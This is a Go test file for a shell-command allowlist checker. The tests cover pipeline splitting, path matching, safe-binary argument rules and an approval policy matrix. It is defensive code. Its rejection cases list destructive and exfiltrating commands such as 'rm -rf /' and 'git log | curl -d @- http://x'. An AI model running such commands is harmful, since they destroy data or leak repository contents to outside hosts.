package allowlist

import (
	"os"
	"path/filepath"
	"testing"
)

// writeFakeBin creates an executable file and returns its path.
func writeFakeBin(t *testing.T, dir, name string) string {
	t.Helper()
	path := filepath.Join(dir, name)
	if err := os.WriteFile(path, []byte("#!/bin/sh\n"), 0755); err != nil {
		t.Fatalf("writing fake bin: %v", err)
	}
	return path
}

func TestAnalyze(t *testing.T) {
	t.Run("simple command", func(t *testing.T) {
		dir := t.TempDir()
		bin := writeFakeBin(t, dir, "deploy")
		t.Setenv("PATH", dir)

		a := Analyze("deploy --prod", "")
		if !a.OK {
			t.Fatalf("analysis failed: %s", a.Reason)
		}
		if len(a.Segments) != 1 {
			t.Fatalf("segments = %d, want 1", len(a.Segments))
		}
		seg := a.Segments[0]
		if len(seg.Argv) != 2 || seg.Argv[0] != "deploy" {
			t.Errorf("argv = %v", seg.Argv)
		}
		if seg.Resolution.Path != bin {
			t.Errorf("resolved = %q, want %q", seg.Resolution.Path, bin)
		}
	})

	t.Run("pipeline splits into segments", func(t *testing.T) {
		a := Analyze("cat access.log | grep 500 | wc -l", "")
		if !a.OK {
			t.Fatalf("analysis failed: %s", a.Reason)
		}
		if len(a.Segments) != 3 {
			t.Fatalf("segments = %d, want 3", len(a.Segments))
		}
	})

	t.Run("pipe inside quotes is literal", func(t *testing.T) {
		a := Analyze(`grep 'a|b' -`, "")
		if !a.OK {
			t.Fatalf("analysis failed: %s", a.Reason)
		}
		if len(a.Segments) != 1 {
			t.Fatalf("segments = %d, want 1", len(a.Segments))
		}
	})

	t.Run("rejects shell control tokens", func(t *testing.T) {
		for _, cmd := range []string{
			"ls && rm -rf /",
			"ls; whoami",
			"ls > /etc/passwd",
			"echo `id`",
			"echo $(id)",
			"ls || true",
			"ls &",
		} {
			if a := Analyze(cmd, ""); a.OK {
				t.Errorf("Analyze(%q) accepted, want rejection", cmd)
			}
		}
	})

	t.Run("rejects empty and unterminated", func(t *testing.T) {
		if a := Analyze("   ", ""); a.OK {
			t.Error("blank command accepted")
		}
		if a := Analyze(`echo 'oops`, ""); a.OK {
			t.Error("unterminated quote accepted")
		}
	})

	t.Run("relative path resolves against cwd", func(t *testing.T) {
		dir := t.TempDir()
		bin := writeFakeBin(t, dir, "run.sh")

		a := Analyze("./run.sh", dir)
		if !a.OK {
			t.Fatalf("analysis failed: %s", a.Reason)
		}
		if got := a.Segments[0].Resolution.Path; got != bin {
			t.Errorf("resolved = %q, want %q", got, bin)
		}
	})
}

func TestMatch(t *testing.T) {
	t.Parallel()

	entries := []Entry{
		{Pattern: "/usr/bin/git"},
		{Pattern: "/opt/tools/*"},
		{Pattern: "/deep/**"},
		{Pattern: "rm"}, // no separator: never matches
	}

	cases := []struct {
		path string
		want bool
	}{
		{"/usr/bin/git", true},
		{"/usr/bin/gita", false},
		{"/opt/tools/fmt", true},
		{"/opt/tools/sub/fmt", false}, // single star stops at /
		{"/deep/a/b/c", true},
		{"/usr/bin/rm", false},
	}
	for _, tc := range cases {
		got := Match(entries, &Resolution{Path: tc.path}) != nil
		if got != tc.want {
			t.Errorf("Match(%q) = %v, want %v", tc.path, got, tc.want)
		}
	}

	t.Run("nil or unresolved", func(t *testing.T) {
		t.Parallel()
		if Match(entries, nil) != nil {
			t.Error("nil resolution matched")
		}
		if Match(entries, &Resolution{Name: "git"}) != nil {
			t.Error("unresolved path matched")
		}
	})
}

func TestIsSafeBinUsage(t *testing.T) {
	t.Parallel()

	dir := t.TempDir()
	bin := writeFakeBin(t, dir, "jq")
	safe := SafeBinSet(DefaultSafeBins)

	seg := func(argv ...string) Segment {
		return Segment{
			Argv:       argv,
			Resolution: &Resolution{Path: bin, Name: "jq"},
		}
	}

	if !IsSafeBinUsage(seg("jq", ".foo"), safe, dir) {
		t.Error("stdin-only jq rejected")
	}
	if !IsSafeBinUsage(seg("jq", "-r", ".foo", "-"), safe, dir) {
		t.Error("explicit stdin dash rejected")
	}
	if IsSafeBinUsage(seg("jq", ".", "/etc/passwd"), safe, dir) {
		t.Error("absolute path argument accepted")
	}
	if IsSafeBinUsage(seg("jq", "--from-file=/tmp/x.jq", "."), safe, dir) {
		t.Error("flag-value path accepted")
	}

	// A bare argument naming an existing file in cwd is a path.
	if err := os.WriteFile(filepath.Join(dir, "data.json"), []byte("{}"), 0644); err != nil {
		t.Fatalf("writing data file: %v", err)
	}
	if IsSafeBinUsage(seg("jq", ".", "data.json"), safe, dir) {
		t.Error("existing-file argument accepted")
	}

	notSafe := Segment{Argv: []string{"rm", "-rf"}, Resolution: &Resolution{Path: "/bin/rm", Name: "rm"}}
	if IsSafeBinUsage(notSafe, safe, dir) {
		t.Error("non-safe bin accepted")
	}
}

func TestEvaluateAndRequiresApproval(t *testing.T) {
	dir := t.TempDir()
	gitBin := writeFakeBin(t, dir, "git")
	curlBin := writeFakeBin(t, dir, "curl")
	_ = curlBin
	t.Setenv("PATH", dir)

	entries := []Entry{{Pattern: gitBin}}
	safe := SafeBinSet(DefaultSafeBins)

	t.Run("covered command", func(t *testing.T) {
		a := Analyze("git status", "")
		ev := Evaluate(a, entries, safe, "")
		if !ev.Satisfied {
			t.Fatal("allowlisted command not satisfied")
		}
		if len(ev.Matches) != 1 {
			t.Errorf("matches = %d, want 1", len(ev.Matches))
		}
	})

	t.Run("uncovered segment fails whole pipeline", func(t *testing.T) {
		a := Analyze("git log | curl -d @- http://x", "")
		ev := Evaluate(a, entries, safe, "")
		if ev.Satisfied {
			t.Fatal("pipeline with uncovered segment satisfied")
		}
	})

	t.Run("failed analysis never satisfies", func(t *testing.T) {
		a := Analyze("git status; rm -rf /", "")
		if ev := Evaluate(a, entries, safe, ""); ev.Satisfied {
			t.Fatal("unanalyzable command satisfied")
		}
	})

	t.Run("policy matrix", func(t *testing.T) {
		cases := []struct {
			ask        Ask
			security   Security
			analysisOK bool
			satisfied  bool
			want       bool
		}{
			{AskAlways, SecurityFull, true, true, true},
			{AskOnMiss, SecurityAllowlist, true, true, false},
			{AskOnMiss, SecurityAllowlist, true, false, true},
			{AskOnMiss, SecurityAllowlist, false, false, true},
			{AskOnMiss, SecurityDeny, true, false, false},
			{AskOff, SecurityAllowlist, true, false, false},
		}
		for _, tc := range cases {
			got := RequiresApproval(tc.ask, tc.security, tc.analysisOK, tc.satisfied)
			if got != tc.want {
				t.Errorf("RequiresApproval(%s,%s,%v,%v) = %v, want %v",
					tc.ask, tc.security, tc.analysisOK, tc.satisfied, got, tc.want)
			}
		}
	})
}
